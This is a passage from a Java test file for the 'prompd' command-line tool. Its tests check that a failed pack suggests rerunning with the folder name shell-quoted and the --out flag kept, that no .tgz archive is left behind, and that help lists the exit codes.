            assertFalse(files.anyMatch(file -> file.toString().endsWith(".tgz")));
        }
    }

    /**
     * 'prompd pack bad' was told to run 'prompd pack' again, which fails where it ran: the commands suggested name the
     * folder as given, shell-quoted, and --out with it.
     */
    @Test
    void aPackWithErrorsSuggestsItselfAgainWithTheFolderAsGiven() throws IOException {
        write("prompd.json", "{\"name\": \"@acme/greeter\"}\n");
        Path spaced = Files.move(pkg, work.resolve("my greeter"));

        CliRun text = CliRun.in(work, home, "pack", "my greeter");
        assertEquals(1, text.exitCode(), text.err());
        assertTrue(text.err().endsWith("\nerror: nothing was packed; fix the errors above and run 'prompd pack"
                + " 'my greeter'' again\n"), text.err());

        CliRun json = CliRun.in(work, home, "pack", "my greeter/", "--json", "--out", "dist/");
        assertEquals(1, json.exitCode(), json.err());
        assertEquals("error: nothing was packed; fix the errors 'prompd validate 'my greeter'' lists and run"
                + " 'prompd pack 'my greeter' --out dist/' again\n", json.err());

        CliRun inside = CliRun.in(spaced.resolve("prompts"), home, "pack");
        assertTrue(inside.err().endsWith("\nerror: nothing was packed; fix the errors above and run 'prompd pack'"
                + " again\n"), inside.err());
        try (var files = Files.walk(work)) {
            assertFalse(files.anyMatch(file -> file.toString().endsWith(".tgz")));
        }
    }

    @Test
    void helpListsTheExitCodes() {
        CliRun run = CliRun.in(work, home, "pack", "--help");
        assertEquals(0, run.exitCode());
        assertTrue(run.out().contains("Exit codes:"), run.out());
        assertTrue(run.out().contains("6   Integrity error"), run.out());
    }
}
